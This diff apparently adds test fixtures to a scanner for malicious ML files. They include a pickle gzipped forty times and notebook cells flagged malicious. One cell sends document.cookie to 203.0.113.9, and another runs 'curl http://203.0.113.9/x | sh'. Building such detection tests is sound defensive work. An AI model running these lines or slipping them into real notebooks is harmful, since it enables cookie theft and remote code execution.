@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import gzip
 import io
 import json
 import struct
@@ -76,3 +77,36 @@ def _() -> bytes:
         "execution_count": None,
     }
     return small_zip({"a.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()})
+
+
+@forge("compressed.gz_forty_times", filename="model.pkl.gz", family="nested tar/zip/7z/OCI", malicious=True)
+def _() -> bytes:
+    content = _PICKLE
+    for _ in range(40):
+        content = gzip.compress(content, mtime=0)
+    return content
+
+
+def _notebook(source: str) -> bytes:
+    cell: dict[str, object] = {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
+
+
+@forge("notebook.script_cell", filename="train.ipynb", family="notebooks", malicious=True)
+def _() -> bytes:
+    return _notebook('%%javascript\nfetch("http://203.0.113.9/" + document.cookie)')
+
+
+@forge("notebook.script_of_the_page", filename="train.ipynb", family="notebooks", malicious=False)
+def _() -> bytes:
+    return _notebook("%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; }")
+
+
+@forge("notebook.system_by_kernel", filename="train.ipynb", family="notebooks", malicious=True)
+def _() -> bytes:
+    return _notebook("get_ipython().system('curl http://203.0.113.9/x | sh')")
+
+
+@forge("notebook.magic_by_kernel", filename="train.ipynb", family="notebooks", malicious=False)
+def _() -> bytes:
+    return _notebook("get_ipython().run_line_magic('matplotlib', 'inline')")
